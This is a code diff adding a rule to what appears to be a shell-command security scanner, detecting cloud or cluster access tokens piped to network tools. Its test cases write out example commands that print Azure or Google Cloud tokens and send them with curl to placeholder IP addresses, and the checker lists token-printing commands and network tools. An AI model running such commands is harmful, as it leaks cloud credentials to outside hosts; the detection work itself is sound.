@@ -277,6 +277,16 @@ var posixFlowRules = []*rule{
 		check: checkCloudSecretsHarvest,
 	},
 	{
+		ID: "cloud-token-sent", Class: "credential access", Sev: high,
+		Msg: "prints a cloud or cluster access token and sends it to a network address (ATT&CK T1528)",
+		Must: []string{
+			"az account get-access-token --resource https://vault.azure.net | jq -r .accessToken | curl -d @- http://198.51.100.201/t",
+			"gcloud auth print-access-token | curl -s -X POST --data-binary @- https://203.0.113.203/",
+		},
+		MustNot: []string{"az account get-access-token --resource https://management.azure.com --query expiresOn", "gcloud auth print-access-token | wc -c"},
+		check:   checkCloudTokenSent,
+	},
+	{
 		ID: "k8s-env-secret-hunt", Class: "credential access", Sev: high,
 		Msg: "prints pods' environments and filters them for keys, secrets, tokens or passwords (ATT&CK T1552.007)",
 		Must: []string{
@@ -1330,4 +1340,33 @@ func argAfter(args []string, flag string) string {
 		}
 	}
 	return ""
+}
+
+// tokenPrinters print a bearer token for the signed-in cloud or cluster
+// identity.
+var tokenPrinters = map[string][][]string{
+	"az":      {{"account", "get-access-token"}},
+	"gcloud":  {{"auth", "print-access-token"}, {"auth", "print-identity-token"}, {"auth", "application-default", "print-access-token"}},
+	"aws":     {{"sts", "get-session-token"}, {"ecr", "get-login-password"}, {"codeartifact", "get-authorization-token"}},
+	"kubectl": {{"create", "token"}},
+}
+
+// checkCloudTokenSent: a token printed and piped on to a program that
+// sends it to an address.
+func checkCloudTokenSent(c *call, _ *config) *hit {
+	subs, ok := tokenPrinters[c.name]
+	if !ok || !hasWords(c, subs) {
+		return nil
+	}
+	for _, d := range downstream(c) {
+		switch d.name {
+		case "curl", "wget", "nc", "ncat", "netcat", "socat", "http", "invoke-webrequest", "invoke-restmethod":
+			for _, a := range d.args() {
+				if strings.Contains(a, "://") || isIPHost(strings.Split(a, ":")[0]) {
+					return c.rule()
+				}
+			}
+		}
+	}
+	return nil
 }
